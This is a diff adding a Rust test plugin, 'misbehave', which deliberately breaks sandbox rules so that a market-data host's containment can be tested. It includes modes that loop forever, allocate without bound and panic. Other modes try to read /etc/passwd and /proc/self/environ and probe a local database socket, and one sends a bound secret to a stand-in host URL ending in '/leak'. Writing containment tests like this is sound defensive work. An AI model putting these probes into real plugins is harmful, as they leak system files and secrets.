@@ -1,0 +1,179 @@
+//! A test-only provider plugin that misbehaves on request, so that the host's sandbox and
+//! containment can be tested with a real component. The first requested symbol picks the
+//! behaviour:
+//!
+//! - `LOOP`: spins forever (the host must interrupt it at its deadline);
+//! - `ALLOC`: allocates without bound (the host's memory cap must stop it);
+//! - `TRAP`: panics, which traps;
+//! - `DENIED`: requests a host it does not declare;
+//! - `SNOOP`: looks for environment variables, arguments, files and directories, and
+//!   reports what it found as an `unsupported` error message;
+//! - `SECRET`: sends `{{secret:x}}` to `other.example`, a host the secret is not bound to;
+//! - `FETCH:<url>`: a well-behaved fetch: GETs `<url>` and returns the bars in its JSON body;
+//! - anything else: one bar per symbol, computed from the request, no I/O.
+
+use mdhost_sdk::{
+    AssetClass, Bar, BarsPage, BarsRequest, Dec, Info, Provider, ProviderError, RateLimit,
+    TimeUnit, Timeframe, http, url,
+};
+
+struct Misbehave;
+
+#[derive(serde::Deserialize)]
+struct WireBar {
+    t: i64,
+    o: Dec,
+    h: Dec,
+    l: Dec,
+    c: Dec,
+    v: Option<Dec>,
+}
+
+fn snoop() -> String {
+    let env = std::env::vars().count();
+    let args = std::env::args().count();
+    let files: Vec<String> = [
+        "/etc/passwd",
+        "/proc/self/environ",
+        "./Cargo.toml",
+        "plugins.toml",
+    ]
+    .iter()
+    .map(|p| match std::fs::read(p) {
+        Ok(b) => format!("{p}:read {} bytes", b.len()),
+        Err(_) => format!("{p}:denied"),
+    })
+    .collect();
+    let dirs: Vec<String> = ["/", "."]
+        .iter()
+        .map(|p| match std::fs::read_dir(p) {
+            Ok(rd) => format!("{p}:listed {}", rd.count()),
+            Err(_) => format!("{p}:denied"),
+        })
+        .collect();
+    let socket = match std::net::TcpStream::connect("127.0.0.1:5432") {
+        Ok(_) => "socket:connected".to_owned(),
+        Err(_) => "socket:denied".to_owned(),
+    };
+    println!("snoop ran");
+    format!(
+        "env={env} args={args} {} {} {socket}",
+        files.join(" "),
+        dirs.join(" ")
+    )
+}
+
+fn echo(req: &BarsRequest) -> BarsPage {
+    let bars = req
+        .symbols
+        .iter()
+        .map(|s| Bar {
+            symbol: s.clone(),
+            timeframe: req.timeframe,
+            start: req.start,
+            open: "100.25".into(),
+            high: "101.5".into(),
+            low: "99.75".into(),
+            close: "100.5".into(),
+            volume: Some("1200".into()),
+            vwap: None,
+            trades: None,
+            complete: req.timeframe.end_of(req.start) <= req.end,
+        })
+        .collect();
+    BarsPage {
+        bars,
+        next_cursor: None,
+    }
+}
+
+fn fetch(target: &str, req: &BarsRequest) -> Result<BarsPage, ProviderError> {
+    let resp = http::get_json(target)?.check_common()?;
+    let wire: Vec<WireBar> = mdhost_sdk::decode_json(&resp.body)?;
+    let symbol = req.symbols.get(1).cloned().unwrap_or_else(|| "TEST".into());
+    let bars = wire
+        .into_iter()
+        .map(|w| Bar {
+            symbol: symbol.clone(),
+            timeframe: req.timeframe,
+            start: w.t,
+            open: w.o.into_string(),
+            high: w.h.into_string(),
+            low: w.l.into_string(),
+            close: w.c.into_string(),
+            volume: w.v.map(Dec::into_string),
+            vwap: None,
+            trades: None,
+            complete: true,
+        })
+        .collect();
+    Ok(BarsPage {
+        bars,
+        next_cursor: None,
+    })
+}
+
+impl Provider for Misbehave {
+    fn describe() -> Info {
+        Info {
+            name: "misbehave".into(),
+            version: env!("CARGO_PKG_VERSION").into(),
+            description: "Test-only plugin that misbehaves on request".into(),
+            asset_classes: vec![AssetClass::Equity],
+            timeframes: vec![
+                Timeframe::of(TimeUnit::Minute, 1),
+                Timeframe::of(TimeUnit::Day, 1),
+            ],
+            allowed_hosts: vec![
+                "127.0.0.1".into(),
+                "localhost".into(),
+                "api.bound.example".into(),
+                "other.example".into(),
+            ],
+            secrets: vec!["x".into()],
+            default_rate_limit: RateLimit {
+                requests: 1000,
+                per_seconds: 1,
+            },
+            max_symbols_per_request: 10,
+            streaming: false,
+        }
+    }
+
+    fn fetch_bars(req: BarsRequest) -> Result<BarsPage, ProviderError> {
+        let first = req.symbols.first().cloned().unwrap_or_default();
+        match first.as_str() {
+            "LOOP" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "ALLOC" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
+                }
+            }
+            "TRAP" => panic!("misbehave: deliberate panic"),
+            "DENIED" => {
+                let e = http::get_json("https://not-declared.example/steal").err();
+                Err(e
+                    .unwrap_or_else(|| ProviderError::BadResponse("request was not denied".into())))
+            }
+            "SNOOP" => Err(ProviderError::Unsupported(snoop())),
+            "SECRET" => {
+                let u = url::UrlBuilder::new("https://other.example/leak")
+                    .secret_query("k", "x")
+                    .build();
+                let e = http::get_json(&u).err();
+                Err(e.unwrap_or_else(|| ProviderError::BadResponse("secret was sent".into())))
+            }
+            f if f.starts_with("FETCH:") => fetch(&f["FETCH:".len()..], &req),
+            _ => Ok(echo(&req)),
+        }
+    }
+}
+
+mdhost_sdk::no_stream!(Misbehave);
+mdhost_sdk::export!(Misbehave);
